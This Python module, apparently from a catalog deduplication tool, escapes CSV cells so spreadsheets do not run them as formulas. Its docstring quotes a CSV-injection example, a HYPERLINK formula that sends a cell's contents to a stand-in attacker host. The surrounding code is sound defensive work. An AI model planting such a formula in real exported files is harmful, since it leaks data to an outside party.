"""Cells of the CSV files dupcheck writes, safe to open in a spreadsheet.

A catalog's ids, SKUs and URLs come from whoever filled the catalog, and a spreadsheet evaluates a
cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
`=HYPERLINK("http://evil.example/?"&A1, "open")` in a duplicates.csv would run when a person
opens it. Such a text cell is written with a leading `'`, which spreadsheets take as "this is
text" and do not show (OWASP's advice for CSV injection). Numbers and other values are written
as they are. In the runtime, as the API's CSV answers use it too (the decisions' export, a job's
results: `csv_text`); the tools' files read it through dupcheck_tools.spreadsheet.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet reads it literally: a text cell a spreadsheet would evaluate gets a
    leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """`rows` as CSV text (RFC 4180: CRLF line ends, a line break inside a cell quoted), each row
    through `safe_row`."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows(safe_row(row) for row in rows)
    return buffer.getvalue()
